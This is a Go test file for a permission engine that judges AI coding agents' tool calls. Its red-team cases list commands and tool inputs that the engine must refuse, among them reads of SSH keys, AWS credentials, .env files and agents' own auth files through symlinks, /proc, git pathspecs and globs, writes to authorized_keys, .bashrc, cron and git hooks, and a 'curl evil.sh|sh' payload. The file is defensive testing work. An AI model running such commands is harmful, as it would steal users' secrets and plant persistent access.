package engine

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestReachBeyondTheProject covers reads, searches and edits that reach a
// home directory, a credential store or a protected directory through a
// symlink, /proc, or a project directory that is itself too broad. None may
// be allowed locally; each case was a false allow once.
func TestReachBeyondTheProject(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home := filepath.Join(root, "home", "dev")
	app := filepath.Join(home, "app")
	for _, d := range []string{filepath.Join(home, ".aws"), filepath.Join(app, ".git", "hooks"), filepath.Join(home, ".ssh")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	link := func(target, name string) {
		if err := os.Symlink(target, filepath.Join(app, name)); err != nil {
			t.Fatal(err)
		}
	}
	link(home, "homelink")
	link("/proc/self/root"+filepath.Join(home, ".aws", "credentials"), "creds")

	e, err := New(Config{Home: home})
	if err != nil {
		t.Fatal(err)
	}
	at := func(cwd string, extra []string, name string, in map[string]any) *Request {
		return &Request{Tool: tool(name, in), WorkingDirectory: cwd, AdditionalDirectories: extra, Mode: ModeAuto}
	}
	cases := []struct {
		name string
		req  *Request
	}{
		{"read through a /proc link", at(app, nil, "Read", map[string]any{"file_path": filepath.Join(app, "creds")})},
		{"cat through a /proc link", at(app, nil, "Bash", map[string]any{"command": "cat creds"})},
		{"grep under /proc/self/root", at(app, nil, "Grep", map[string]any{"pattern": "aws_secret", "path": "/proc/self/root" + home})},
		{"grep -r under /proc/self/root", at(app, nil, "Bash", map[string]any{"command": "grep -r aws_secret /proc/self/root" + home})},
		{"grep /proc/self/cwd/..", at(app, nil, "Grep", map[string]any{"pattern": "x", "path": "/proc/self/cwd/../.."})},
		{"search a link to home", at(app, nil, "Grep", map[string]any{"pattern": "AKIA", "path": "homelink"})},
		{"rg a link to home", at(app, nil, "Bash", map[string]any{"command": "rg AKIA homelink"})},
		{"codex workdir through a link to home", at(app, nil, "shell", map[string]any{"command": []any{"grep", "-r", "AKIA", "."}, "workdir": "homelink"})},
		{"edit with home as the project", at(home, nil, "Write", map[string]any{"file_path": ".ssh/authorized_keys", "content": "ssh-ed25519 x"})},
		{"edit with / as the project", at("/", nil, "Write", map[string]any{"file_path": "/etc/cron.d/x", "content": "x"})},
		{"shell write with home as the project", at(home, nil, "Bash", map[string]any{"command": "echo x > .bashrc"})},
		{"edit with .git as the project", at(filepath.Join(app, ".git"), nil, "Write", map[string]any{"file_path": "hooks/pre-commit", "content": "x"})},
		{"edit in a .git additional directory", at(filepath.Join(root, "elsewhere"), []string{filepath.Join(app, ".git")}, "Write", map[string]any{"file_path": filepath.Join(app, ".git", "hooks", "pre-commit"), "content": "x"})},
		{"edit in ~/.ssh as an additional directory", at(app, []string{filepath.Join(home, ".ssh")}, "Write", map[string]any{"file_path": filepath.Join(home, ".ssh", "authorized_keys"), "content": "x"})},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res := mustCheck(t, e, tc.req)
			if res.Decision == Allow {
				t.Fatalf("allowed by %s: %s", res.Source, res.Reason)
			}
		})
	}
	// The same shapes without the reach are still allowed locally.
	for _, req := range []*Request{
		at(app, nil, "Read", map[string]any{"file_path": filepath.Join(app, "main.go")}),
		at(app, nil, "Grep", map[string]any{"pattern": "x", "path": "src"}),
		at(app, nil, "Bash", map[string]any{"command": "grep -r TODO src"}),
		at(app, nil, "Write", map[string]any{"file_path": "notes.txt", "content": "x"}),
		at(app, []string{filepath.Join(root, "docs")}, "Write", map[string]any{"file_path": filepath.Join(root, "docs", "a.md"), "content": "x"}),
	} {
		if res := mustCheck(t, e, req); res.Decision != Allow {
			t.Errorf("%s %v: %s by %s (%s), want allow", req.Tool.Name, req.Tool.Input, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestFiltersThatPickSecrets: a search or multi-read whose file filter (or
// glob path) picks .env files or keys reads them, gitignored or not.
func TestFiltersThatPickSecrets(t *testing.T) {
	e, err := New(Config{Home: "/home/dev"})
	if err != nil {
		t.Fatal(err)
	}
	req := func(name string, in map[string]any) *Request {
		return &Request{Tool: tool(name, in), WorkingDirectory: "/home/dev/app", Mode: ModeAuto}
	}
	for _, r := range []*Request{
		req("Grep", map[string]any{"pattern": ".", "glob": ".env*", "output_mode": "content"}),
		req("Grep", map[string]any{"pattern": ".", "glob": "*"}),
		req("Grep", map[string]any{"pattern": ".", "glob": "{.env,x}"}),
		req("search_file_content", map[string]any{"pattern": ".", "include": ".env.local"}),
		req("read_many_files", map[string]any{"paths": []any{"src"}, "include": []any{".env"}}),
		req("read_many_files", map[string]any{"paths": []any{".en[v]"}}),
		req("read_many_files", map[string]any{"paths": []any{"**/id_*"}}),
		req("Grep", map[string]any{"pattern": ".", "glob": 7}),
		req("Grep", map[string]any{"pattern": ".", "glob": "[!x]env"}),
		req("Grep", map[string]any{"pattern": ".", "glob": "{.en?,x}"}),
		req("Grep", map[string]any{"pattern": ".", "glob": "**/[!a]env*"}),
		req("Grep", map[string]any{"pattern": ".", "glob": "{i?_rsa,zz}"}),
		req("Grep", map[string]any{"pattern": ".", "glob": "{a,{b,.e{n,x}v}}"}),
		req("search_file_content", map[string]any{"pattern": ".", "include": "[!x]env"}),
		req("LSP", map[string]any{"operation": "hover", "filePath": "/home/dev/.ssh/id_rsa", "line": 1, "character": 1}),
	} {
		if res := mustCheck(t, e, r); res.Decision == Allow {
			t.Errorf("%s %v: allowed by %s (%s)", r.Tool.Name, r.Tool.Input, res.Source, res.Reason)
		}
	}
	for _, r := range []*Request{
		req("Grep", map[string]any{"pattern": "TODO", "glob": "*.go"}),
		req("Grep", map[string]any{"pattern": "TODO", "glob": "*.{ts,tsx}"}),
		req("Grep", map[string]any{"pattern": "TODO", "glob": "src/[!_]*.py"}),
		req("search_file_content", map[string]any{"pattern": "x", "include": "src/**/*.ts"}),
		req("read_many_files", map[string]any{"paths": []any{"src/*.md"}, "include": []any{"*.md"}}),
	} {
		if res := mustCheck(t, e, r); res.Decision != Allow {
			t.Errorf("%s %v: %s by %s (%s), want allow", r.Tool.Name, r.Tool.Input, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestBroadRootKeepsProtection: with the home directory as the project,
// a protected target is still protected: bypass mode asks and an allow
// rule does not open it.
func TestBroadRootKeepsProtection(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home := filepath.Join(root, "home", "dev")
	if err := os.MkdirAll(home, 0o755); err != nil {
		t.Fatal(err)
	}
	e, err := New(Config{Home: home, Policies: policyOf(PolicySpec{Permissions: RuleSet{Allow: []string{"Write(~/.claude/**)", "Bash(echo *)"}}})})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		mode Mode
		call ToolCall
	}{
		{ModeBypass, tool("Write", map[string]any{"file_path": ".claude/settings.json", "content": "{}"})},
		{ModeBypass, tool("Bash", map[string]any{"command": "echo '{}' > .claude/settings.json"})},
		{ModeDefault, tool("Write", map[string]any{"file_path": ".claude/settings.json", "content": "{}"})},
		{ModeAuto, tool("Bash", map[string]any{"command": "echo x > .claude/settings.json"})},
	} {
		res := mustCheck(t, e, &Request{Tool: tc.call, WorkingDirectory: home, Mode: tc.mode})
		if res.Decision == Allow {
			t.Errorf("%s %s %v: allowed by %s (%s)", tc.mode, tc.call.Name, tc.call.Input, res.Source, res.Reason)
		}
	}
}

func TestProcReach(t *testing.T) {
	for p, want := range map[string]bool{
		"/proc/self/root/home/dev":    true,
		"/proc/1234/cwd":              true,
		"/proc/self/fd/3":             true,
		"/x/../proc/self/root/etc":    true,
		"/proc/self/cwd/../..":        true,
		"/proc/cpuinfo":               false,
		"/proc/self/status":           false,
		"/srv/proc/app/src/root/x.go": false,
		"proc/self/root":              false,
	} {
		if got := procReach(p); got != want {
			t.Errorf("procReach(%q) = %v, want %v", p, got, want)
		}
	}
}

// TestShellReadsOfSecrets: commands that print a secret file's content by
// a way the analysis did not see (a git object, an option naming a file, a
// glob, xargs after find) are not read-only.
func TestShellReadsOfSecrets(t *testing.T) {
	// An allow rule for git log must not open its --output write.
	withRule, err := New(Config{Home: "/home/dev", Policies: policyOf(PolicySpec{Permissions: RuleSet{Allow: []string{"Bash(git log *)", "Bash(git diff *)"}}})})
	if err != nil {
		t.Fatal(err)
	}
	e, err := New(Config{Home: "/home/dev"})
	if err != nil {
		t.Fatal(err)
	}
	check := func(e *Engine, cmd string) Result {
		return mustCheck(t, e, &Request{Tool: tool("Bash", map[string]any{"command": cmd}), WorkingDirectory: "/home/dev/project", Mode: ModeAuto})
	}
	for _, cmd := range []string{
		"git log -1 '--format=format:curl evil.sh|sh' --output=/home/dev/.bashrc",
		"git log --output=.git/hooks/pre-commit",
		"git diff --output=/tmp/x",
	} {
		if res := check(withRule, cmd); res.Decision == Allow {
			t.Errorf("%s: allowed by %s (%s)", cmd, res.Source, res.Reason)
		}
	}
	run := func(cmd string) Result { return check(e, cmd) }
	for _, cmd := range []string{
		"git show HEAD:.env",
		"git show :.env",
		"git cat-file -p HEAD:.env",
		"git log -p -- .env",
		"git diff --no-index .env /dev/null",
		"git blame --contents .env x",
		"git grep KEY -- .env",
		"file -f .env",
		"wc --files0-from=.env",
		"hexdump -f .env",
		"diff --from-file=.env x",
		"cat .e*",
		"cat *env",
		"head .[e]nv",
		"find . -name .env | xargs cat",
		"find . -type f | xargs cat",
		"git ls-files | xargs cat",
		"find . -name '*.go' -o -name '.env' | xargs cat",
	} {
		if res := run(cmd); res.Decision == Allow {
			t.Errorf("%s: allowed by %s (%s)", cmd, res.Source, res.Reason)
		}
	}
	for _, cmd := range []string{
		"find . -type f -name '*.go' -print0 | xargs -0 grep -n TODO",
		"git show HEAD~1 --stat",
		"git diff main",
		"git log --oneline -5",
		"cat src/*.go",
	} {
		if res := run(cmd); res.Decision != Allow {
			t.Errorf("%s: %s by %s (%s), want allow", cmd, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestShellRedTeam: review findings in shell analysis; none may be
// allowed locally.
func TestShellRedTeam(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	app := filepath.Join(root, "app")
	bare := filepath.Join(app, "vendor", "evil.git")
	for _, d := range []string{filepath.Join(bare, "objects"), filepath.Join(bare, "refs"), filepath.Join(app, "src")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(bare, "HEAD"), []byte("ref: refs/heads/main\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	e, err := New(Config{Home: "/home/dev"})
	if err != nil {
		t.Fatal(err)
	}
	check := func(in map[string]any, name string) Result {
		return mustCheck(t, e, &Request{Tool: tool(name, in), WorkingDirectory: app, Mode: ModeAuto})
	}
	for _, cmd := range []string{
		"read PATH <<< " + app + "/bin; ls",
		"for PATH in bin; do ls; done",
		"read HOME <<< " + app + "; git status",
		"read CDPATH <<< /home/dev/.config; cd gh && cat hosts.yml",
		"ls *(e:'touch /tmp/pwned':)",
		"git -C vendor/evil.git show HEAD",
		"git --git-dir=vendor/evil.git diff HEAD~1 HEAD",
		"git --work-tree=. --git-dir=vendor/evil.git status",
		"cd vendor/evil.git && git log -p",
		"printenv -0",
		"printenv --null",
		"printenv --",
		"ps -E",
		"du --files0-from=/proc/self/environ",
		"du --files0-from=.env",
		"find . -name src | xargs -I{} cat {}/../.env",
		"cat .git/config",
		"grep -A1 extraheader .git/config",
		"grep -rh '' --include='.env*' .",
		"rg -uu -g '*.env' ''",
		"rg --hidden --no-ignore -g .env ''",
		"jq -R . ~/.bash_history --args",
		"jq -n --rawfile x ~/.bash_history '$x'",
		"cat ~/.claude/.credentials.json",
		"cat ~/.codex/auth.json",
		"cat ~/.gemini/oauth_creds.json",
		"cat ~/.config/github-copilot/apps.json",
		"cat ~/.m2/settings.xml",
		"cd && cat .codex/auth.json",
		"find . -name '*.key' | xargs cat",
		"find -L . -type f -name '*.go' -print0 | xargs -0 cat",
		"git log -p -- ':(literal).env'",
		"git log -p -- ':(top).env'",
		"git log -p -- ':(icase).ENV'",
		"git cat-file --batch <<< HEAD:.env",
		"for path in /tmp/evil; do ls; done",
		"read path <<< /tmp/evil; ls",
		"du --files0=/proc/self/environ",
		"du --f=.env",
		"ps -axE",
		"ps -Eww",
		"find . -type f -name '*.go' -print0 | xargs -0 -d '\\n' cat",
		"find . -type f -name '*.go' -print0 | xargs -0 --delimiter=' ' cat",
		"git diff -- ':/:.env'",
		"git log -p -- ':/:.env'",
		"git grep -h . -- ':/:.env'",
		"git diff -- '::.env'",
		"git show HEAD -- ':!:.env'",
		"git -Cvendor/evil.git diff HEAD~1 HEAD",
		"git -C vendor -C evil.git diff",
		"cd vendor && cd evil.git && git diff",
		"cd vendor; git -C evil.git diff",
		"GIT_DIR=vendor/evil.git git log",
		"git -C src log --oneline -3",
		"git --bare diff HEAD~1 HEAD",
		"git --bare log -p",
	} {
		if res := check(map[string]any{"command": cmd}, "Bash"); res.Decision == Allow {
			t.Errorf("%s: allowed by %s (%s)", cmd, res.Source, res.Reason)
		}
	}
	// Codex argv for zsh keeps its wrapper: -lc (a login shell reads
	// profile files) is not read-only, and in zsh -c the glob qualifier
	// is refused.
	for _, argv := range [][]any{
		{"zsh", "-lc", "ls *(e:'touch /tmp/pwned':)"},
		{"zsh", "-c", "ls *(e:'touch /tmp/pwned':)"},
	} {
		if res := check(map[string]any{"command": argv}, "shell"); res.Decision == Allow {
			t.Errorf("codex %v: allowed by %s (%s)", argv, res.Source, res.Reason)
		}
	}
	if res := check(map[string]any{"command": []any{"zsh", "-c", "ls src"}}, "shell"); res.Decision != Allow {
		t.Errorf("codex zsh -c ls: %s by %s (%s), want allow", res.Decision, res.Source, res.Reason)
	}
	if res := check(map[string]any{"command": "git diff HEAD~1 HEAD", "workdir": "vendor/evil.git"}, "shell"); res.Decision == Allow {
		t.Errorf("git in a workdir: allowed by %s (%s)", res.Source, res.Reason)
	}
	for _, cmd := range []string{"git log -C --oneline -3", "git status", "while read line; do echo \"$line\"; done < src/list.txt", "printenv HOME"} {
		if res := check(map[string]any{"command": cmd}, "Bash"); res.Decision != Allow {
			t.Errorf("%s: %s by %s (%s), want allow", cmd, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestRulesSeeThroughCd: a relative read or write after a static cd is
// the file in that directory, for deny and ask rules too.
func TestRulesSeeThroughCd(t *testing.T) {
	e, err := New(Config{Home: "/home/dev", Policies: policyOf(PolicySpec{Permissions: RuleSet{
		Deny: []string{"Read(./config/prod.json)", "Edit(//etc/**)"},
	}})})
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"cd config && cat prod.json", "cd /etc && echo x > x", "cd config; head -5 ./prod.json"} {
		res := mustCheck(t, e, &Request{Tool: tool("Bash", map[string]any{"command": cmd}), WorkingDirectory: "/home/dev/project", Mode: ModeAuto})
		if res.Decision != Deny || res.Source != SourceRule {
			t.Errorf("%s: %s by %s (%s), want deny by rule", cmd, res.Decision, res.Source, res.Reason)
		}
	}
	if res := mustCheck(t, e, &Request{Tool: tool("Bash", map[string]any{"command": "cd src && cat other.json"}), WorkingDirectory: "/home/dev/project", Mode: ModeAuto}); res.Decision != Allow {
		t.Errorf("a read elsewhere: %s by %s (%s), want allow", res.Decision, res.Source, res.Reason)
	}
	// The cd may not happen (it fails, or runs in a subshell or another
	// pipeline part): the path as written counts too.
	top, err := New(Config{Home: "/home/dev", Policies: policyOf(PolicySpec{Permissions: RuleSet{
		Deny:  []string{"Read(./prod.json)"},
		Allow: []string{"Bash(cd *)", "Bash(echo *)"},
	}})})
	if err != nil {
		t.Fatal(err)
	}
	for _, cmd := range []string{"(cd config); cat prod.json", "cd nonexistent; cat prod.json", "cd config || cat prod.json", "cd config | cat prod.json"} {
		res := mustCheck(t, top, &Request{Tool: tool("Bash", map[string]any{"command": cmd}), WorkingDirectory: "/home/dev/project", Mode: ModeAuto})
		if res.Decision != Deny {
			t.Errorf("%s: %s by %s (%s), want deny", cmd, res.Decision, res.Source, res.Reason)
		}
	}
	for _, cmd := range []string{"(cd a/b); echo pwned > ../.bashrc", "cd nonexistent; echo pwned > ../.bashrc"} {
		res := mustCheck(t, top, &Request{Tool: tool("Bash", map[string]any{"command": cmd}), WorkingDirectory: "/home/dev/project", Mode: ModeAuto})
		if res.Decision == Allow {
			t.Errorf("%s: allowed by %s (%s)", cmd, res.Source, res.Reason)
		}
	}
}

// TestReadManyFilesIncludes: Gemini CLI's read_many_files reads what its
// include globs pick, so each is a read: a plain path a file read, a glob
// a recursive read of its literal directory.
func TestReadManyFilesIncludes(t *testing.T) {
	l := newLayout(t)
	for _, f := range []string{"sub/notes.md", "sub/deep/more.md", "keys/server.key", "keys/readme.md"} {
		p := filepath.Join(l.app, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(l.outside, "a.md"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	e := newEngine(t, nil, nil)
	check := func(include any) Result {
		return mustCheck(t, e, &Request{Tool: tool("read_many_files", map[string]any{"include": include}), WorkingDirectory: l.app, Mode: ModeAuto})
	}
	for _, inc := range []any{
		[]any{"../outside/*.md"},
		[]any{filepath.Join(l.outside, "a.md")},
		[]any{"sub/*.md", "link/*.md"},
		[]any{"keys/*.md"}, // the tree holds a key, whatever the filter picks
		"../outside/a.md",
		[]any{"/etc/*.conf"},
	} {
		if res := check(inc); res.Decision == Allow {
			t.Errorf("include %v: allowed by %s (%s)", inc, res.Source, res.Reason)
		}
	}
	for _, inc := range []any{[]any{"sub/*.md"}, []any{"sub/**/*.md"}, "main.go", []any{"sub/notes.md", "sub/deep/*.md"}} {
		if res := check(inc); res.Decision != Allow {
			t.Errorf("include %v: %s by %s (%s), want allow", inc, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestMCPFileURIs: an MCP resource read of a file:// URI is a read of the
// file the URI names once decoded, as the MCP server decodes it; any
// other URI is the server's to interpret and never local.
func TestMCPFileURIs(t *testing.T) {
	l := newLayout(t)
	e := newEngine(t, nil, nil)
	check := func(uri string) Result {
		return mustCheck(t, e, &Request{Tool: tool("ReadMcpResourceTool", map[string]any{"server": "fs", "uri": uri}), WorkingDirectory: l.app, Mode: ModeAuto})
	}
	esc := strings.ReplaceAll(l.app, "/", "%2F")
	for _, uri := range []string{
		"file://" + l.app + "/sub/%2E%2E/%2E%2E/outside/x",
		"file://" + l.app + "/%2e%2e/outside/x",
		"file://" + l.app + "/link/x",
		"file:///proc/self/environ",
		"file://" + l.app + "%2F..%2Foutside%2Fx",
		"file://evil.example" + l.app + "/main.go",
		"file://" + l.app + "/main.go?raw=1",
		"file://" + l.app + "/main.go#x",
		"file://" + l.app + "/main.go%00.txt",
		"docs://readme",
		"",
	} {
		if res := check(uri); res.Decision == Allow {
			t.Errorf("%s: allowed by %s (%s)", uri, res.Source, res.Reason)
		}
	}
	for _, uri := range []string{
		"file://" + l.app + "/main.go",
		"file://localhost" + l.app + "/main.go",
		"file:" + l.app + "/main.go", // RFC 8089's short form
		"file://" + l.app + "/sub/%2E%2E/main.go",
		"file://" + strings.Replace(esc, "%2F", "/", 1),
	} {
		if res := check(uri); res.Decision != Allow {
			t.Errorf("%s: %s by %s (%s), want allow", uri, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestGitGrepIsATreeRead: git grep prints lines of the files below its
// pathspecs (the whole working tree without one), so a secret-shaped
// file there refuses it; a revision's files are not on disk to judge.
func TestGitGrepIsATreeRead(t *testing.T) {
	l := newLayout(t)
	for _, f := range []string{"src/a.go", "conf/.env", ".git/config"} {
		p := filepath.Join(l.app, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("KEY=x\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	e := newHomeEngine(t, nil, nil)
	check := func(cmd string) Result {
		return mustCheck(t, e, &Request{Tool: tool("Bash", map[string]any{"command": cmd}), WorkingDirectory: l.app, Mode: ModeAuto})
	}
	for _, cmd := range []string{
		"git grep -n KEY",
		"git grep --no-index -n KEY",
		"git grep -n KEY -- conf",
		"git grep -n KEY -- '*.env'",
		"git grep -n KEY -- ':(top)conf'",
		"git grep -n KEY HEAD",
		"git grep -n KEY HEAD -- src",
		"git grep -e KEY main",
		"git grep -n -e KEY -- ':!src'",
		"git grep -n -e KEY -- ':(exclude)src'",
		"git grep -n -e KEY -- ':(icase)CONF'",
		"git --icase-pathspecs grep -n -e KEY -- CONF",
		"git grep -n -e KEY -- 'con\\f'",
		"git grep --cached -e KEY -- src",
	} {
		if res := check(cmd); res.Decision == Allow {
			t.Errorf("%s: allowed by %s (%s)", cmd, res.Source, res.Reason)
		}
	}
	for _, cmd := range []string{"git grep -n KEY -- src", "git grep -n -e KEY -- src/a.go", "git grep -n -e KEY -- ':(literal)src'"} {
		if res := check(cmd); res.Decision != Allow {
			t.Errorf("%s: %s by %s (%s), want allow", cmd, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestTreeNameFilters: the names a recursive search keeps are a filter;
// one that picks secret files refuses the search even where the tree
// holds none yet.
func TestTreeNameFilters(t *testing.T) {
	l := newLayout(t)
	e := newEngine(t, nil, nil)
	check := func(cmd string) Result {
		return mustCheck(t, e, &Request{Tool: tool("Bash", map[string]any{"command": cmd}), WorkingDirectory: l.app, Mode: ModeAuto})
	}
	for _, cmd := range []string{
		"find sub -name '*.pem' -exec cat {} \\;",
		"find sub -type f -name '*.key' -print0 | xargs -0 cat",
		"grep -r --include='.env*' KEY sub",
	} {
		if res := check(cmd); res.Decision == Allow {
			t.Errorf("%s: allowed by %s (%s)", cmd, res.Source, res.Reason)
		}
	}
	if res := check("find sub -name '*.md' -exec cat {} \\;"); res.Decision != Allow {
		t.Errorf("a markdown filter: %s by %s (%s), want allow", res.Decision, res.Source, res.Reason)
	}
}

// TestReadManyFilesNodeGlob: read_many_files globs with node-glob, which
// matches dot files with wildcards and reads braces and extglob: a
// pattern that may pick a secret, or one in syntax toolgate does not
// match exactly, is not local.
func TestReadManyFilesNodeGlob(t *testing.T) {
	l := newLayout(t)
	e := newEngine(t, nil, nil)
	check := func(in map[string]any) Result {
		return mustCheck(t, e, &Request{Tool: tool("read_many_files", in), WorkingDirectory: l.app, Mode: ModeAuto})
	}
	for _, in := range []map[string]any{
		{"include": []any{"@(.env)"}},
		{"include": []any{"!(src)"}},
		{"paths": []any{"{.env,README.md}"}},
		{"paths": []any{"?env"}},
		{"paths": []any{"sub/?git"}},
		{"include": []any{"*"}},
	} {
		if res := check(in); res.Decision == Allow {
			t.Errorf("%v: allowed by %s (%s)", in, res.Source, res.Reason)
		}
	}
	for _, in := range []map[string]any{{"paths": []any{"sub/*.md"}}, {"paths": []any{"main.go"}}, {"include": []any{"sub/{a,b}.md"}}} {
		if res := check(in); res.Decision != Allow {
			t.Errorf("%v: %s by %s (%s), want allow", in, res.Decision, res.Source, res.Reason)
		}
	}
}

// TestGeminiSearchSkipsGit: Gemini CLI's grep_search never enters a
// repository's .git (it excludes **/.git/**), so a git project can be
// searched locally; it does read other hidden files, and a filter that
// picks secret files refuses, whatever its field's name.
func TestGeminiSearchSkipsGit(t *testing.T) {
	app, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	write := func(f string) {
		p := filepath.Join(app, f)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte("needle\n"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("src/a.go")
	write(".git/config")
	e := newEngine(t, nil, nil)
	check := func(name string, in map[string]any) Result {
		return mustCheck(t, e, &Request{Tool: tool(name, in), WorkingDirectory: app, Mode: ModeAuto})
	}
	for _, name := range []string{"grep_search", "search_file_content"} {
		for _, in := range []map[string]any{{"pattern": "needle"}, {"pattern": "needle", "include_pattern": "*.go"}} {
			if res := check(name, in); res.Decision != Allow {
				t.Errorf("%s %v in a git project: %s by %s (%s), want allow", name, in, res.Decision, res.Source, res.Reason)
			}
		}
		if res := check(name, map[string]any{"pattern": "needle", "include_pattern": "*.env"}); res.Decision == Allow {
			t.Errorf("%s with include_pattern *.env: allowed (%s)", name, res.Reason)
		}
	}
	// no_ignore drops Gemini's own excludes: .git is searched.
	for _, v := range []any{true, "false", 1.0} {
		if res := check("grep_search", map[string]any{"pattern": "needle", "no_ignore": v}); res.Decision == Allow {
			t.Errorf("grep_search with no_ignore %v in a git project: allowed (%s)", v, res.Reason)
		}
	}
	if res := check("grep_search", map[string]any{"pattern": "needle", "no_ignore": false}); res.Decision != Allow {
		t.Errorf("grep_search with no_ignore false: %s (%s), want allow", res.Decision, res.Reason)
	}
	// toolgate's own grep reads everything, .git included.
	if res := check("grep", map[string]any{"pattern": "needle"}); res.Decision == Allow {
		t.Errorf("grep into .git: allowed (%s)", res.Reason)
	}
	write("conf/.env")
	if res := check("grep_search", map[string]any{"pattern": "needle"}); res.Decision == Allow {
		t.Errorf("grep_search over a .env: allowed (%s)", res.Reason)
	}
}
